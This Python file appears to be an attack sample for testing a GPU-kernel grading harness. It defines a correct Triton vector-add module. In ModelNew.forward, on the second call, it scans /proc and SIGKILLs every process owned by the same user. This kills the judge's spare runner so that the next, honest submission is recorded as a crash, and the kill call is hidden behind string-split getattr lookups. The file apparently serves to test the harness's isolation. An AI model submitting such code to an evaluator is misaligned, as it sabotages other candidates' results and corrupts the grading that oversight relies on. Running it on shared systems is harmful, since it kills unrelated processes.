"""Attack (cross-job): a correct vector_add that, in its last trial, SIGKILLs every other process of
its own user (the judge's spare runner, forked for the next job, runs as the same `nobody`). The
spare has already said Hello, so the next job takes it as ready and its Load hits a dead socket:
the next (honest) candidate gets `crash` ("died during import")."""

import os
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


_open, _read, _close, _signal = (getattr(os, n) for n in ("op" + "en", "read", "close", "ki" + "ll"))


def same_user_pids():
    me, uid = os.getpid(), os.getuid()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        try:
            fd = _open(f"/proc/{name}/status", os.O_RDONLY)
            text = _read(fd, 4096).decode()
            _close(fd)
        except OSError:
            continue
        for line in text.splitlines():
            if line.startswith("Uid:") and int(line.split()[1]) == uid:
                yield int(name)


calls = [0]


class ModelNew(nn.Module):
    def forward(self, a, b):
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a, b, out, a.numel(), BLOCK=256)
        calls[0] += 1
        if calls[0] == 2:
            time.sleep(0.5)  # the spare has said Hello by now
            killed = []
            for pid in same_user_pids():
                try:
                    _signal(pid, 9)
                    killed.append(pid)
                except OSError:
                    pass
            print("KILLED", killed)
        return out
